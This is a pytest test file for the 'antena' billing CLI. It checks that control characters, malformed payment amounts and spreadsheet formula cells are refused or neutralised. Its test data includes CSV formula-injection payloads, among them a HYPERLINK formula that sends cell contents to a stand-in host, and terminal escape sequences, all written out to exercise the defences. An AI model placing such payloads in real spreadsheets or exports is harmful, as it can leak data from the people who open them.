"""Hostile input at the command line and in CSV files: control characters in any argument or cell,
amounts in exponent form, other scripts' digits or past ``ANTENA_MAX_PAYMENT``, and formula cells.
Each is refused with its reason (naming the field) and changes nothing; formula cells are written
neutralised by every CSV export and read back as they were by the import."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import select

from antena.core.config import Settings
from antena.core.db.billing_models import Invoice, Payment
from antena.core.db.models import AuditLog, Client, Zone
from tests.helpers import cli, cli_centro, count, fetch
from tests.integration.test_cli_payments import add_invoice
from tests.integration.test_csv_import import _network, write

ANTENA = str(Path(sys.executable).with_name("antena"))


def antena(*args: str | bytes, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """The real ``antena`` program (arguments may be raw bytes, as a shell passes them)."""
    return subprocess.run(
        [ANTENA, *args],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, **(env or {})},
    )


# --- control characters in command-line arguments -------------------------------------------------


@pytest.mark.parametrize(
    ("args", "field", "code"),
    [
        (["zone", "add", "--name", "Cen\x1btro", "--issue-day", "1", "--notice-day", "2", "--pay-day", "3",
          "--cutoff-day", "4"], "--name", "U+001B"),
        (["zone", "add", "--name=Centro\x07", "--issue-day", "1", "--notice-day", "2", "--pay-day", "3",
          "--cutoff-day", "4"], "--name", "U+0007"),
        (["clients", "suspend", "ju\x7fan"], "CLIENTE", "U+007F"),
        (["staff", "add", "--telegram-id", "5", "--name", "Ana\u0085", "--role", "admin"], "--name", "U+0085"),
    ],
)  # fmt: skip
def test_control_characters_in_arguments_are_refused_naming_the_field(
    cli_env: Settings, args: list[str], field: str, code: str
) -> None:
    result = cli(*args)
    assert result.exit_code == 1
    assert result.stderr.strip() == (
        f"antena: {field} contains a control character ({code}); remove it and try again"
    )
    assert count(cli_env.database_url, Zone) == 0 and count(cli_env.database_url, AuditLog) == 0


def test_the_real_program_refuses_control_characters_and_bytes_that_are_not_utf8(cli_env: Settings) -> None:
    escape = antena("zone", "add", "--name", "Cen\x1b[31mtro", "--issue-day", "1", "--notice-day", "2",
                    "--pay-day", "3", "--cutoff-day", "4")  # fmt: skip
    assert escape.returncode == 1
    assert escape.stderr == "antena: --name contains a control character (U+001B); remove it and try again\n"
    latin1 = subprocess.run(
        [ANTENA.encode(), b"zone", b"add", b"--name", b"Pe\xf1a", b"--issue-day", b"1", b"--notice-day", b"2",
         b"--pay-day", b"3", b"--cutoff-day", b"4"],
        capture_output=True, text=True, timeout=120, env=dict(os.environ),
    )  # fmt: skip
    assert latin1.returncode == 1 and latin1.stderr == "antena: --name is not valid UTF-8 text\n"
    spanish = antena("clients", "suspend", "ju\x01an", env={"ANTENA_LOCALE": "es"})
    assert spanish.returncode == 1 and "CLIENTE contiene un carácter de control (U+0001)" in spanish.stderr
    assert count(cli_env.database_url, Zone) == 0


def test_a_description_may_have_several_lines(cli_env: Settings, threaded_emulator) -> None:  # type: ignore[no-untyped-def]
    cli_centro(threaded_emulator.port)
    added = cli("extra", "add", "Juan", "--name", "Router", "--amount", "650", "--kind", "one_off",
                "--description", "Router WiFi\nmodelo AX1500")  # fmt: skip
    assert added.exit_code == 0, added.stderr
    refused = cli("extra", "add", "Juan", "--name", "Router", "--amount", "650", "--kind", "one_off",
                  "--description", "Router\x00")  # fmt: skip
    assert refused.exit_code == 1 and "--description contains a control character (U+0000)" in refused.stderr


# --- amounts -----------------------------------------------------------------------------------------


@pytest.fixture
def owing(cli_env: Settings, threaded_emulator) -> tuple[Settings, int]:  # type: ignore[no-untyped-def]
    """Juan Pérez owes invoice N (400.00)."""
    cli_centro(threaded_emulator.port)
    (juan,) = fetch(cli_env.database_url, select(Client.id))
    return cli_env, add_invoice(cli_env.database_url, juan[0])


@pytest.mark.parametrize(
    ("amount", "reason"),
    [
        ("1e9", "Write the amount without an exponent, not 1e9"),
        ("١٢٣", "Write the amount with the digits 0-9, not ١٢٣"),
        ("３５０", "Write the amount with the digits 0-9, not ３５０"),
        (
            "12345678901234567.89",
            "The amount 12345678901234567.89 is more than the largest allowed (100,000.00)",
        ),
        ("100000.01", "The amount 100000.01 is more than the largest allowed (100,000.00)"),
        ("1,2,3", "Not a valid amount: 1,2,3"),
        ("350.001", "An amount has at most two decimals, not 350.001"),
        ("-5", "The amount must be greater than zero, not -5"),
    ],
)
def test_payment_amounts_are_refused_with_the_reason_and_nothing_changes(
    owing: tuple[Settings, int], amount: str, reason: str
) -> None:
    settings, number = owing
    result = cli("payment", "add", str(number), amount)
    assert result.exit_code == 1 and result.stderr.strip() == f"antena: {reason}"
    assert count(settings.database_url, Payment) == 0
    (paid,) = fetch(settings.database_url, select(Invoice.paid_amount).where(Invoice.number == number))
    assert str(paid[0]) == "0.00"


def test_the_maximum_is_a_setting_and_thousands_commas_are_fine(
    owing: tuple[Settings, int], monkeypatch: pytest.MonkeyPatch
) -> None:
    settings, number = owing
    monkeypatch.setenv("ANTENA_MAX_PAYMENT", "300")
    refused = antena("payment", "add", str(number), "350")
    assert refused.returncode == 1
    assert refused.stderr == "antena: The amount 350 is more than the largest allowed (300.00)\n"
    monkeypatch.delenv("ANTENA_MAX_PAYMENT")
    paid = cli("payment", "add", str(number), "$1,200.50")
    assert paid.exit_code == 0, paid.stderr
    (row,) = fetch(settings.database_url, select(Payment.amount))
    assert str(row[0]) == "1200.50"


# --- CSV: control characters in cells, formula cells ----------------------------------------------------

HEADER = "id,name,phone,email,address,zone,router,plan,ip,service_user,mac,status"


@pytest.fixture
def net(cli_env: Settings) -> Settings:
    asyncio.run(_network(cli_env))
    return cli_env


def test_csv_cells_with_control_characters_are_bad_rows_naming_the_column(
    net: Settings, tmp_path: Path
) -> None:
    text = (
        f"{HEADER}\n"
        ",Ana\x00 López,5512345678,,,Centro,RB-Centro,Hogar 10M,10.0.0.2,,,activo\n"
        ",Luis Pérez,55\x1b12345679,,,Centro,RB-Centro,Hogar 10M,10.0.0.3,,,activo\n"
        ',Rosa Díaz,,,"Calle 5\n\tint. 4",Centro,RB-Centro,Hogar 10M,10.0.0.4,,,activo\n'
    )
    path = write(tmp_path, text)
    refused = cli("clients", "import", path)
    assert refused.exit_code == 1
    assert "line 2: Column name contains a control character (U+0000)" in refused.stdout + refused.stderr
    assert "line 3: Column phone contains a control character (U+001B)" in refused.stdout + refused.stderr
    assert count(net.database_url, Client) == 0
    partial = cli("clients", "import", path, "--partial")
    assert partial.exit_code == 0, partial.stderr
    rows = fetch(net.database_url, select(Client.name, Client.address))
    assert rows == [("Rosa Díaz", "Calle 5\n\tint. 4")]  # an address may keep its line break and tab


FORMULAS = {
    "10.0.0.2": ('=HYPERLINK("http://x/?"&A1)', "+52 55 1234 5678", "=1+1"),
    "10.0.0.3": ("@foo", "", "+SUM(A1:A9)"),
    "10.0.0.4": ("-5", "", "-2+3"),
    "10.0.0.5": ("'=Escrito por Excel", "", "'Calle O'Brien"),
}


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_formula_cells_are_neutralised_on_export_and_restored_on_import(
    net: Settings, tmp_path: Path
) -> None:
    lines = [HEADER]
    for ip, (name, phone, address) in FORMULAS.items():
        row = io.StringIO()
        csv.writer(row, lineterminator="").writerow(
            ["", name, phone, "", address, "Centro", "RB-Centro", "Hogar 10M", ip, "", "", "activo"]
        )
        lines.append(row.getvalue())
    imported = cli("clients", "import", write(tmp_path, "\n".join(lines) + "\n"))
    assert imported.exit_code == 0, imported.stdout + imported.stderr
    stored = {
        r[0]: r[1:]
        for r in fetch(net.database_url, select(Client.id, Client.name, Client.phone, Client.address))
    }
    assert sorted(name for name, _p, _a in stored.values()) == [
        "-5", "=Escrito por Excel", '=HYPERLINK("http://x/?"&A1)', "@foo"
    ]  # fmt: skip

    out = tmp_path / "export.csv"
    assert cli("clients", "export", str(out)).exit_code == 0
    exported = {r["ip"]: r for r in _cells(out.read_text(encoding="utf-8"))}
    assert exported["10.0.0.2"]["name"] == '\'=HYPERLINK("http://x/?"&A1)'
    assert exported["10.0.0.2"]["phone"] == "+525512345678"  # a phone: digits, left alone
    assert exported["10.0.0.2"]["address"] == "'=1+1"
    assert exported["10.0.0.3"]["name"] == "'@foo" and exported["10.0.0.3"]["address"] == "'+SUM(A1:A9)"
    assert exported["10.0.0.4"]["name"] == "-5" and exported["10.0.0.4"]["address"] == "'-2+3"
    assert (
        exported["10.0.0.5"]["name"] == "'=Escrito por Excel"
    )  # the import took its ' off, the export put it back
    assert exported["10.0.0.5"]["address"] == "'Calle O'Brien"  # not a formula: as it is
    for row in exported.values():
        for value in row.values():
            assert not value or value[0] not in "=@\t\r+" or value.startswith("+52")

    # invoices list --csv writes the client's name the same way
    (first,) = [cid for cid, (name, _p, _a) in stored.items() if name.startswith("=HYPERLINK")]
    add_invoice(net.database_url, first)
    listing = cli("invoices", "list", "--csv")
    assert listing.exit_code == 0
    assert _cells(listing.stdout)[0]["client"] == '\'=HYPERLINK("http://x/?"&A1)'

    again = cli("clients", "import", str(out))  # the export, imported back over the same ids
    assert again.exit_code == 0, again.stdout + again.stderr
    after = {
        r[0]: r[1:]
        for r in fetch(net.database_url, select(Client.id, Client.name, Client.phone, Client.address))
    }
    assert after == stored
